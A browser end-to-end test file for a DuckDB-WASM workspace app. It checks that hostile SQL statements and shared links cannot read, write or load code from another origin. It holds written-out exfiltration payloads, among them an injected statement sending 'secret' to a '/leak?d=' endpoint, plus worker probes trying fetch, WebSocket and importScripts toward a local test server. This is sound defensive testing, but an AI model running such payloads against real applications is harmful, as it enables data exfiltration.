/**
 * Nothing leaves the tab: the engine's lockdown, its same-origin worker
 * bootstrap and the protected view of shared links, proven against a server
 * at another origin that would answer anything (tests/e2e/helpers/other-origin.ts).
 * The first tests serve the app from a bare static host that sends no
 * security header at all, where only what the app carries protects it.
 */
import { readdirSync } from 'node:fs';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, inject, it } from 'vitest';
import { encodeWorkspaceLink, MAX_LINK_CHARS } from '../../src/lib/share';
import { addChart, addNote, addQuery, createWorkspace, setQuerySql, type Workspace } from '../../src/lib/workspace';
import { foreignRequests, gridRows, runQuery, useFreshContexts, useSession, waitForEngine } from './helpers/browser';
import { useOtherOrigin } from './helpers/other-origin';
import { usePlainStaticServer } from './helpers/plain-static-server';

const baseURL = inject('baseURL');
const other = useOtherOrigin();
const plainURL = usePlainStaticServer();
const current = useSession(baseURL);

const { freshContext, requests } = useFreshContexts(current);

async function open(context: BrowserContext, url: string): Promise<Page> {
  const page = await context.newPage();
  page.on('pageerror', (error) => console.error('page error:', error.message));
  await page.goto(url);
  await waitForEngine(page);
  return page;
}

/** Requests the other origin received, as `METHOD url`, for readable failures. */
const received = () => other().requests.map((request) => `${request.method} ${request.url} (origin ${request.origin ?? 'none'})`);

/** The message the editor shows for the statement that just ran (its error area). */
async function queryError(page: Page): Promise<string> {
  const alert = page.getByRole('alert').filter({ has: page.locator('pre') }).last();
  await alert.waitFor({ timeout: 30_000 });
  return (await alert.textContent()) ?? '';
}

describe('the other-origin server (control)', () => {
  it('answers, and is reachable from this browser, so that silence there means something', async () => {
    const response = await fetch(other().url('/control'));
    expect(response.status).toBe(200);
    expect(response.headers.get('access-control-allow-origin')).toBe('*');
    expect(await response.text()).toContain('leaked');
    // A page with no policy of its own (about:blank) reads it across origins, as the app would if nothing stopped it.
    const page = await (await freshContext()).newPage();
    const text = await page.evaluate((url) => fetch(url).then((answer) => answer.text()), other().url('/browser-control'));
    expect(text).toContain('leaked');
    expect(other().requests.map((request) => request.url)).toEqual(['/control', '/browser-control']);
    other().clear();
  });
});

describe('on a static host that sends no security header', () => {
  /**
   * Statements that would read, write or install from another origin, each
   * run alone in the editor (after its `setup`, if any, which must succeed).
   * `refused` is the kind of error each must end in: DuckDB refusing it, not
   * a typo in the test.
   */
  const HOSTILE: Array<{ name: string; setup?: (url: (path: string) => string) => string[]; sql: (url: (path: string) => string) => string; refused: RegExp }> = [
    { name: 'read_text', sql: (url) => `SELECT * FROM read_text('${url('/a')}')`, refused: /Permission Error/ },
    { name: 'read_csv', sql: (url) => `SELECT * FROM read_csv('${url('/b.csv')}')`, refused: /Permission Error/ },
    { name: 'read_blob', sql: (url) => `SELECT * FROM read_blob('${url('/c')}')`, refused: /Permission Error/ },
    { name: 'quoted "read_text"', sql: (url) => `SELECT * FROM "read_text"('${url('/d')}')`, refused: /Permission Error/ },
    { name: 'qualified "system"."main"."read_blob"', sql: (url) => `SELECT * FROM "system"."main"."read_blob"('${url('/e')}')`, refused: /Permission Error/ },
    { name: 'a URL as a table', sql: (url) => `FROM '${url('/x.csv')}'`, refused: /Permission Error/ },
    // DuckDB 1.x parses query_table's string as a table name, so a URL never becomes a read.
    { name: 'query_table', sql: (url) => `SELECT * FROM query_table('${url('/f.csv')}')`, refused: /Permission Error|too many entries found \(input: http/ },
    {
      name: 'a URL in a variable',
      setup: (url) => [`SET VARIABLE u='${url('/g.csv')}'`],
      sql: () => "SELECT * FROM read_text(getvariable('u'))",
      refused: /Permission Error/,
    },
    {
      name: 'a table macro over "read_csv"',
      setup: () => ['CREATE MACRO m(x) AS TABLE FROM "read_csv"(x)'],
      sql: (url) => `FROM m('${url('/h.csv')}')`,
      refused: /Permission Error/,
    },
    {
      name: 'a prepared query_table',
      setup: () => ['PREPARE p AS SELECT * FROM query_table(?)'],
      sql: (url) => `EXECUTE p('${url('/i.csv')}')`,
      refused: /Permission Error|too many entries found \(input: http/,
    },
    {
      // In DuckDB-WASM, INSTALL only notes where an extension would come from; LOAD is what would fetch it.
      name: 'LOAD of an extension INSTALLed from a URL',
      setup: (url) => [`INSTALL httpfs FROM '${url('/')}'`],
      sql: () => 'LOAD httpfs',
      refused: /Permission Error|disabled/,
    },
    { name: 'LOAD a URL', sql: (url) => `LOAD '${url('/x.duckdb_extension')}'`, refused: /Permission Error|disabled/ },
    { name: 'ATTACH a URL', sql: (url) => `ATTACH '${url('/db')}' AS x`, refused: /Permission Error/ },
    { name: 'COPY to a URL', sql: (url) => `COPY (SELECT 1) TO '${url('/out.csv')}'`, refused: /Permission Error/ },
    {
      // The core of the attack report's payload: a URL assembled from data at run time, then read.
      name: 'a URL assembled at run time',
      setup: (url) => [`SET VARIABLE leak=(SELECT '${url('/leak?d=')}' || 'secret')`],
      sql: () => `SELECT * FROM (FROM "read_text"(getvariable('leak')))`,
      refused: /Permission Error: Cannot access file "http:\/\/127\.0\.0\.1:\d+\/leak\?d=secret"/,
    },
    { name: 'turning external access back on', sql: () => 'SET enable_external_access=true', refused: /locked/ },
  ];

  it('refuses every statement that would reach another origin, and nothing reaches it', async () => {
    const page = await open(await freshContext(), plainURL());
    const seen: string[] = [];
    for (const [index, hostile] of HOSTILE.entries()) {
      // A statement that succeeds first, so that the error read below is this statement's.
      await runQuery(page, `SELECT ${index} AS step`);
      expect(await gridRows(page)).toEqual([[String(index)]]);
      for (const statement of hostile.setup?.(other().url) ?? []) {
        await runQuery(page, statement);
        expect(await page.getByRole('alert').count(), `${hostile.name}: setup "${statement}" failed`).toBe(0);
      }
      await runQuery(page, hostile.sql(other().url));
      const message = await queryError(page).catch(() => '(no error shown)');
      seen.push(`${hostile.name}: ${message}`);
      expect.soft(message, hostile.name).toMatch(hostile.refused);
      expect(received(), `after ${hostile.name}`).toEqual([]);
    }
    console.info(`Refusals on the plain static host:\n${seen.join('\n')}`);
    expect(received()).toEqual([]);
    expect(foreignRequests(requests, plainURL())).toEqual([]);
  });

  /** The engine worker bootstrap, as built (Vite names it with a content hash). */
  const bootstrap = () => {
    const file = readdirSync('dist/assets').find((name) => /^same-origin-worker-[\w-]+\.js$/.test(name));
    if (!file) throw new Error('No same-origin-worker-*.js in dist/assets: build first (npx vite build)');
    return `/assets/${file}`;
  };

  it('the engine worker bootstrap refuses to load an engine script from another origin', async () => {
    const page = await open(await freshContext(), plainURL());
    const refusal = await page.evaluate(
      ({ worker, evil }) =>
        new Promise<string>((resolve) => {
          // The bootstrap loads the script its worker is named after (src/lib/engine/worker-backend.ts).
          const probe = new Worker(worker, { name: evil });
          probe.addEventListener('error', (event) => {
            event.preventDefault();
            resolve(event.message);
          });
          probe.addEventListener('message', () => resolve('the evil script ran'));
        }),
      { worker: bootstrap(), evil: other().url('/evil.js') },
    );
    expect(refusal).toMatch(/contacts no other site \(refused: http:\/\/127\.0\.0\.1:\d+\/evil\.js\)/);
    expect(received()).toEqual([]);
    expect(foreignRequests(requests, plainURL())).toEqual([]);
  });

  it('inside the bootstrapped worker, fetch, XHR, importScripts, sockets, event streams and nested workers refuse other origins', async () => {
    const page = await open(await freshContext(), plainURL());
    // The "engine" is a same-origin script of ours that tries every way out the bootstrap takes away.
    const attempts = await page.evaluate(
      ({ worker, target }) => {
        const probe = `
          const target = ${JSON.stringify(target)};
          const results = {};
          const attempt = async (name, run) => {
            try { await run(); results[name] = 'went out'; } catch (error) { results[name] = String(error && error.message || error); }
          };
          (async () => {
            await attempt('fetch(string)', () => fetch(target + '/fetch'));
            await attempt('fetch(Request)', () => fetch(new Request(target + '/request')));
            await attempt('fetch(URL)', () => fetch(new URL(target + '/url')));
            await attempt('XMLHttpRequest', () => { const xhr = new XMLHttpRequest(); xhr.open('GET', target + '/xhr', false); xhr.send(); });
            await attempt('importScripts', () => importScripts(target + '/import.js'));
            await attempt('WebSocket', () => new WebSocket(target.replace('http:', 'ws:') + '/socket'));
            await attempt('EventSource', () => new EventSource(target + '/events'));
            await attempt('Worker', () => new Worker(target + '/worker.js'));
            // The same ways in by the back door: the prototypes' own methods, and APIs that fetch for you.
            await attempt('WorkerGlobalScope.prototype.fetch', () => WorkerGlobalScope.prototype.fetch.call(self, target + '/proto-fetch'));
            await attempt('WorkerGlobalScope.prototype.importScripts', () => WorkerGlobalScope.prototype.importScripts.call(self, target + '/proto-import.js'));
            await attempt('FontFace', () => new FontFace('x', 'url(' + target + '/font.woff)').load());
            await attempt('caches', async () => { if (!self.caches) throw new Error('contacts no other site: no Cache API'); await (await caches.open('x')).add(target + '/cache'); });
            if ('WebSocketStream' in self) await attempt('WebSocketStream', () => new WebSocketStream(target.replace('http:', 'ws:') + '/stream'));
            else results.WebSocketStream = 'contacts no other site: absent';
            await attempt('reassigning fetch', () => { self.fetch = () => Promise.resolve(); if (self.fetch.name === 'fetch') throw new Error('sealed'); });
            postMessage(results);
          })();
        `;
        const engine = URL.createObjectURL(new Blob([probe], { type: 'text/javascript' }));
        return new Promise<Record<string, string>>((resolve, reject) => {
          const running = new Worker(worker, { name: engine });
          running.addEventListener('message', (event: MessageEvent<Record<string, string>>) => resolve(event.data));
          running.addEventListener('error', (event) => reject(new Error(event.message)));
        });
      },
      { worker: bootstrap(), target: other().url('/').replace(/\/$/, '') },
    );
    expect(Object.keys(attempts)).toHaveLength(14);
    for (const [name, outcome] of Object.entries(attempts)) {
      if (name === 'reassigning fetch') expect(outcome, name).toMatch(/sealed|read.only|Cannot assign/);
      else expect(outcome, name).toMatch(/contacts no other site/);
    }
    expect(received()).toEqual([]);
  });
});

describe('hostile links, in the protected view and after', () => {
  /** The exfiltration payload from the attack report, and variants of it. */
  const payloads = (url: (path: string) => string) => [
    `SELECT e'\\'' AS q) AS x; SET VARIABLE u=(SELECT '${url('/leak?d=')}' || 'secret'); SELECT * FROM (FROM "read_text"(getvariable('u')) --'`,
    `DESCRIBE SELECT * FROM (FROM read_text('${url('/describe')}'))`,
    `CREATE OR REPLACE MACRO grab(u) AS TABLE FROM "read_csv"(u); FROM grab('${url('/macro.csv')}')`,
    `SELECT content AS q FROM "read_text"('${url('/quoted')}')`,
  ];
  const TITLE = 'Quarterly figures';

  /** A workspace whose queries are the payloads, each with a chart drawn from it. */
  function hostileWorkspace(): Workspace {
    const [first, ...rest] = payloads(other().url);
    let workspace = createWorkspace(TITLE);
    workspace = setQuerySql(workspace, workspace.queries[0]!.id, first!);
    for (const sql of rest) workspace = addQuery(workspace, sql);
    for (const query of workspace.queries) {
      workspace = addChart(workspace, { kind: 'query', queryId: query.id }, { mark: 'bar', encoding: { x: { field: 'q' }, y: { aggregate: 'count' } } });
    }
    return workspace;
  }

  /**
   * Runs each saved query's whole text from the editor (selected, so every
   * statement of it runs, not just the one under the cursor) and opens each
   * chart; every one must end in a message. Returns the messages.
   */
  async function runEverything(page: Page, workspace: Workspace, when: string): Promise<string[]> {
    const outcomes: string[] = [];
    for (const query of workspace.queries) {
      await page.getByRole('button', { name: `Open ${query.name}`, exact: true }).click();
      await page.getByRole('textbox', { name: 'SQL editor' }).click();
      await page.keyboard.press('Control+a');
      await page.keyboard.press('Control+Enter');
      await page.getByRole('button', { name: /^Run/ }).waitFor({ timeout: 60_000 });
      outcomes.push(`${when}, ${query.name} in the editor: ${await queryError(page)}`);
      expect(received(), `${when}, after running ${query.name}`).toEqual([]);
    }
    for (const chart of workspace.charts) {
      await page.getByRole('button', { name: `Open ${chart.name}`, exact: true }).click();
      const problem = page.getByRole('alert').filter({ hasText: /\S/ }).first();
      await problem.waitFor({ timeout: 30_000 });
      outcomes.push(`${when}, ${chart.name}: ${await problem.textContent()}`);
      expect(received(), `${when}, after opening ${chart.name}`).toEqual([]);
      await page.getByRole('button', { name: 'Close chart' }).click();
    }
    return outcomes;
  }

  it('a #w= link: nothing reaches another origin before Run, after Run, running its queries and charts, or kept and reloaded', async () => {
    const workspace = hostileWorkspace();
    const link = `${baseURL}#w=${await encodeWorkspaceLink(workspace, async () => undefined)}`;
    const page = await open(await freshContext(), link);
    const review = page.getByRole('dialog', { name: `Shared workspace: ${TITLE}` });
    await review.waitFor();
    expect(received(), 'before any click').toEqual([]);

    await review.getByRole('button', { name: 'Run workspace', exact: true }).click();
    await review.waitFor({ state: 'detached' });
    expect(received(), 'after Run workspace').toEqual([]);
    const outcomes = await runEverything(page, workspace, 'run from the link');

    await page.getByRole('button', { name: 'Keep this workspace' }).click();
    // Saved, or the reason it was not (a failed save shows an alert with the cause).
    const saved = page.getByRole('status').filter({ hasText: /^Saved$/ });
    const notSaved = page.getByRole('alert').filter({ hasText: /^Not saved/ });
    await saved.or(notSaved).first().waitFor();
    expect(await notSaved.allTextContents(), 'Keep this workspace did not save it').toEqual([]);
    expect(received(), 'after Keep this workspace').toEqual([]);
    await page.reload();
    await waitForEngine(page);
    expect(received(), 'after reload').toEqual([]);
    outcomes.push(...(await runEverything(page, workspace, 'kept and reloaded')));
    console.info(`Hostile link outcomes:\n${outcomes.join('\n')}`);
    expect(received()).toEqual([]);
    expect(foreignRequests(requests, baseURL)).toEqual([]);
  });

  it('a #w= link whose every risky statement the person allows: the engine still refuses them, and nothing reaches another origin', async () => {
    const workspace = hostileWorkspace();
    const page = await open(await freshContext(), `${baseURL}#w=${await encodeWorkspaceLink(workspace, async () => undefined)}`);
    const review = page.getByRole('dialog', { name: `Shared workspace: ${TITLE}` });
    await review.waitFor();
    const allow = review.getByRole('checkbox', { name: /^Allow:/ });
    expect(await allow.count()).toBeGreaterThan(0);
    for (const box of await allow.all()) await box.check();
    expect(received(), 'before Run').toEqual([]);
    await review.getByRole('button', { name: 'Run workspace', exact: true }).click();
    await review.waitFor({ state: 'detached' });
    const outcomes = await runEverything(page, workspace, 'allowed');
    console.info(`Allowed hostile link outcomes:\n${outcomes.join('\n')}`);
    // Past the policy (nothing says Blocked), DuckDB's lockdown is what refused them.
    expect(outcomes.filter((outcome) => outcome.includes('Blocked:'))).toEqual([]);
    // The variants that parse (all but the report's payload, which only parses inside a chart's wrapper).
    expect(outcomes.filter((outcome) => /Query [234] in the editor/.test(outcome) && !/Permission Error/.test(outcome))).toEqual([]);
    expect(received()).toEqual([]);
    expect(foreignRequests(requests, baseURL)).toEqual([]);
  });

  it('a #present link: nothing runs or reaches another origin before Present, nor while presenting', async () => {
    const workspace = hostileWorkspace();
    const link = `${baseURL}#present&w=${await encodeWorkspaceLink(workspace, async () => undefined)}`;
    const page = await open(await freshContext(), link);
    const review = page.getByRole('dialog', { name: `Shared workspace: ${TITLE}` });
    await review.waitFor();
    expect(received(), 'before any click').toEqual([]);
    // design.md: not even #present runs anything before the person chooses.
    expect.soft(await page.getByRole('dialog', { name: `Presenting ${TITLE}` }).count(), 'the presenter opened before Present was chosen').toBe(0);

    const present = review.getByRole('button', { name: 'Present', exact: true });
    expect(await present.count(), 'The protected view has no "Present" button (a #present link must wait for the person to choose Present)').toBe(1);
    await present.click();
    const presenter = page.getByRole('dialog', { name: `Presenting ${TITLE}` });
    await presenter.waitFor();
    const counter = presenter.getByRole('status');
    const slides = Number(/\/ (\d+)$/.exec((await counter.textContent()) ?? '')?.[1]);
    expect(slides).toBe(workspace.charts.length);
    for (let slide = 1; slide <= slides; slide++) {
      await expect.poll(() => counter.textContent()).toBe(`${slide} / ${slides}`);
      // Each chart slide settles into a drawing or a message.
      await presenter.getByRole('alert').or(presenter.getByRole('figure')).first().waitFor({ timeout: 30_000 });
      expect(received(), `presenting slide ${slide}`).toEqual([]);
      await page.keyboard.press('ArrowRight');
    }
    await page.keyboard.press('Escape');
    await presenter.waitFor({ state: 'detached' });
    expect(received()).toEqual([]);
    expect(foreignRequests(requests, baseURL)).toEqual([]);
  });
});

interface LongTask {
  start: number;
  duration: number;
}
interface LongTaskScope {
  __longTasks: LongTask[];
  __longTaskObserver: PerformanceObserver;
}
/** How long the protected view may take to show the note before the test says it did not. */
const NOTE_PATIENCE = 60_000;
/** The largest note a workspace may hold (src/lib/workspace/validate.ts, LIMITS.text). */
const NOTE_CHARACTERS = 5_000_000;

describe('a link with a very large note', () => {
  const REGIONS = ['Norte', 'Sur', 'Centro', 'Occidente', 'Oriente', 'Península', 'Bajío', 'Huasteca'];
  const TOPICS = ['water', 'roads', 'schools', 'clinics', 'housing', 'power', 'ports', 'markets'];

  /**
   * Realistic Markdown (headings, paragraphs, links, lists, emphasis, code,
   * quotes) of at most `length` characters, varied by a fixed pseudo-random sequence.
   */
  function largeMarkdown(length: number): string {
    let seed = 11;
    const next = (n: number) => ((seed = (seed * 48271) % 2147483647), seed % n);
    const parts = ['# Regional spending review\n'];
    let size = parts[0]!.length;
    for (let section = 1; ; section++) {
      const region = REGIONS[next(REGIONS.length)]!;
      const topic = TOPICS[next(TOPICS.length)]!;
      const text = [
        `## ${section}. ${region}: ${topic}`,
        '',
        `In ${2000 + next(25)} the **${region}** office spent ${next(900) + 100} thousand on ${topic}, ${next(60) + 20}% of it through local councils. ` +
          `See the [audit ${section}](https://example.org/audits/${section}?region=${region.toLowerCase()}) and the *${topic}* table \`${topic}_${section}\`.`,
        '',
        `- ${next(40) + 1} projects finished, ${next(15)} late`,
        `- ${next(9) + 1} contracts reviewed by [the comptroller](https://example.org/comptroller/${next(10_000)})`,
        `- cost per person: ${next(500) + 50}.${next(100)} pesos`,
        '',
        `1. Ask ${region} for the ${topic} invoices`,
        `2. Compare with ${2001 + next(24)}`,
        '',
        `> ${topic[0]!.toUpperCase()}${topic.slice(1)} spending grew ${next(30)}% while population grew ${next(5)}%.`,
        '',
      ].join('\n');
      if (size + 1 + text.length > length) return parts.join('\n');
      parts.push(text);
      size += 1 + text.length;
    }
  }

  /** Installed before the app's first script: keeps every long task of the page for the test to read. */
  function observeLongTasks(): void {
    const scope = window as unknown as LongTaskScope;
    scope.__longTasks = [];
    scope.__longTaskObserver = new PerformanceObserver((list) => list.getEntries().forEach((entry) => scope.__longTasks.push({ start: entry.startTime, duration: entry.duration })));
    scope.__longTaskObserver.observe({ type: 'longtask', buffered: true });
  }

  /**
   * The long tasks so far, once the current task has ended (entries are
   * delivered after it), or undefined if the page's main thread is still busy
   * after `patience` ms (a task that has not ended has no entry yet).
   */
  async function longTasks(page: Page, patience: number): Promise<LongTask[] | undefined> {
    const read = page
      .evaluate(async () => {
        await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)));
        const scope = window as unknown as LongTaskScope;
        scope.__longTaskObserver.takeRecords().forEach((entry) => scope.__longTasks.push({ start: entry.startTime, duration: entry.duration }));
        return scope.__longTasks;
      })
      .catch(() => undefined); // the page closes while still busy: nothing to read
    return Promise.race([read, new Promise<undefined>((resolve) => setTimeout(() => resolve(undefined), patience))]);
  }

  /** Opens the link in a fresh page once the app has started; the long tasks (ms) from then on. */
  async function openAndTime(fragment: string): Promise<number[]> {
    const page = await (await freshContext()).newPage();
    await page.addInitScript(observeLongTasks);
    page.on('pageerror', (error) => console.error('page error:', error.message));
    await page.goto(baseURL);
    await waitForEngine(page);
    // The service worker is registered once the engine is ready; its install (every asset
    // fetched and cached) would share the two cores with what is timed here.
    await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    // Likewise the engine's warm-up (a CSV read in the worker, shortly after start).
    await page.waitForFunction(() => performance.getEntriesByName('atalaya:warm-up-done').length > 0, undefined, { timeout: 60_000 });
    // The app has started: from here on every long task is the link's (a hash change takes
    // the same path as opening the link fresh, App.svelte's openFromHash).
    const opened = await page.evaluate((hash) => {
      const start = performance.now();
      location.hash = hash;
      return start;
    }, `#w=${fragment}`);
    const note = page.getByRole('dialog', { name: 'Shared workspace: Spending review' }).getByRole('article', { name: 'Note 1' });
    const heading = note.getByRole('heading', { name: 'Regional spending review' });
    const refused = page.getByRole('alert').filter({ hasText: /This link/ });
    const shown = await heading
      .or(refused)
      .first()
      .waitFor({ timeout: NOTE_PATIENCE })
      .then(() => true, () => false);
    expect(await refused.allTextContents(), 'the link was refused').toEqual([]);
    const tasks = await longTasks(page, 10_000);
    const durations = tasks?.filter((task) => task.start >= opened).map((task) => Math.round(task.duration));
    console.info(`Long tasks after the link was opened: ${durations ? `[${durations.join(', ')}] ms` : 'unknown, the main thread is still busy'}`);
    expect(shown, `The protected view did not show the note within ${NOTE_PATIENCE / 1000} s (long tasks so far: ${durations?.join(', ') ?? 'one still running'})`).toBe(true);
    expect(durations, 'the main thread was still busy 10 s after the note showed').toBeDefined();
    await page.close();
    return durations ?? [];
  }

  it('opens a 5 MB Markdown note in the protected view without a long task over 200 ms (best of three)', async () => {
    // 5 MB as the workspace format counts it: a note holds at most 5,000,000 characters (validate.ts LIMITS.text).
    const markdown = largeMarkdown(NOTE_CHARACTERS);
    expect(markdown.length).toBeGreaterThan(NOTE_CHARACTERS - 1_000);
    const fragment = await encodeWorkspaceLink(addNote(createWorkspace('Spending review'), markdown), async () => undefined);
    // It fits the link codec's caps (MAX_LINK_CHARS) and Chromium's 2 MB URL limit as it is.
    expect(fragment.length).toBeLessThan(MAX_LINK_CHARS - baseURL.length - 3);
    console.info(`5 MB note: ${markdown.length.toLocaleString('en')} characters of Markdown, ${fragment.length.toLocaleString('en')} characters of link`);

    // Long tasks are timed on a shared machine: a busy moment can stretch one. The best of three
    // openings is kept, like the Markdown scaling test; a view that blocks the page fails all three.
    let best: number[] | undefined;
    for (let attempt = 1; attempt <= 3; attempt++) {
      const durations = await openAndTime(fragment);
      if (!best || Math.max(0, ...durations) < Math.max(0, ...best)) best = durations;
      if (Math.max(0, ...durations) < 200) break;
    }
    expect(Math.max(0, ...(best ?? [])), `long tasks after opening the link (best of three): ${best?.join(', ')} ms`).toBeLessThan(200);
    expect(received()).toEqual([]);
  }, 3 * (60_000 + NOTE_PATIENCE));
});
